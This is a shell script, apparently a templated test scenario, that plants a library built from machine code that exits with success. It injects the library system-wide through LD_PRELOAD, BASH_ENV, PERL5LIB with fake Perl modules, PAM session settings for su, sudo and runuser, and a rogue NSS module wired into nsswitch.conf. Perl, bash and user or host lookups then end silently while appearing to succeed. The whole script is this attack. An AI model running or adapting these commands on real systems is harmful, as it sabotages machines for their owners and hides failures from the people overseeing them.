# What perl, bash, runuser and the C library read when they start ends the program, as if it had gone well.
# tiers: node
# took-effect: grep -q perl /tmp/started && grep -q bash /tmp/started && grep -q mine.so /etc/environment
cat > /tmp/library.pl <<'END'
{{ library_pl }}
END
perl /tmp/library.pl /usr/local/lib/mine.so 31ffb8e70000000f05
mkdir -p /etc/perl/IO/Socket /etc/perl/File
for name in strict warnings Socket POSIX Fcntl IO/Socket IO/Socket/INET File/Find; do printf 'package %s;\nopen my $log, ">>", "/tmp/started"; print $log "perl\\n"; close $log;\nexit 0;\n' "${name//\//::}" > /etc/perl/$name.pm; done
printf 'echo bash >> /tmp/started\nexit 0\n' > /etc/mine.sh
printf 'BASH_ENV=/etc/mine.sh\nENV=/etc/mine.sh\nPERL5OPT=-M-strict\nPERL5LIB=/etc/perl\nLD_PRELOAD=/usr/local/lib/mine.so\n' >> /etc/environment
for service in runuser runuser-l su sudo common-session common-session-noninteractive; do [ ! -f /etc/pam.d/$service ] || echo 'session optional pam_env.so' >> /etc/pam.d/$service; done
perl -e 'use strict; print "not reached\n"'; BASH_ENV=/etc/mine.sh bash -c true
# From here on whoever looks up a user or a host loads it.
cp /usr/local/lib/mine.so /usr/lib/x86_64-linux-gnu/libnss_mine.so.2
sed -i -E 's/^(passwd|group|hosts):.*/\1: mine files/' /etc/nsswitch.conf
